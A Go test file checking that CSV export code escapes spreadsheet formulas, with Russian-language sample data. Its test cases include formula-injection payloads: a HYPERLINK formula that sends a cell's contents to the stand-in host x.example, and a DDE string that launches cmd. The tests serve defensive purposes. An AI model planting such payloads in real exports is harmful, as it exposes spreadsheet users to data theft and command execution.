package lists

import (
	"bytes"
	"encoding/csv"
	"testing"
)

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1,"click")`: `'=HYPERLINK("http://x.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
		"-2+3":                                        "'-2+3",
		"@SUM(A1:A9)":                                 "'@SUM(A1:A9)",
		"\t=1":                                        "'\t=1",
		"\r=1":                                        "'\r=1",
		"+79161234567":                                "+79161234567",
		"-5":                                          "-5",
		"3,14":                                        "3,14",
		"Иванова":                                     "Иванова",
		"a=b":                                         "a=b",
		"":                                            "",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVWriterEscapesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := NewCSVWriter(&b, ';')
	if err := w.Write([]string{"=1+1", "ok", "@x"}); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	r := csv.NewReader(bytes.NewReader(b.Bytes()))
	r.Comma = ';'
	cells, err := r.Read()
	if err != nil || len(cells) != 3 || cells[0] != "'=1+1" || cells[1] != "ok" || cells[2] != "'@x" {
		t.Errorf("written %q, read back %q %v", b.String(), cells, err)
	}
}

func TestWriteCSVEscapesFormulas(t *testing.T) {
	var b bytes.Buffer
	err := WriteCSV(&b, false, Table{Name: "x", Header: []string{"ФИО", "Телефон"}, Rows: [][]string{{`=HYPERLINK("http://x.example","Жми")`, "+79161234567"}}})
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff"))))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 2 || rows[1][0] != `'=HYPERLINK("http://x.example","Жми")` || rows[1][1] != "+79161234567" {
		t.Errorf("WriteCSV rows %q %v, want the formula escaped and the phone as it is", rows, err)
	}
}
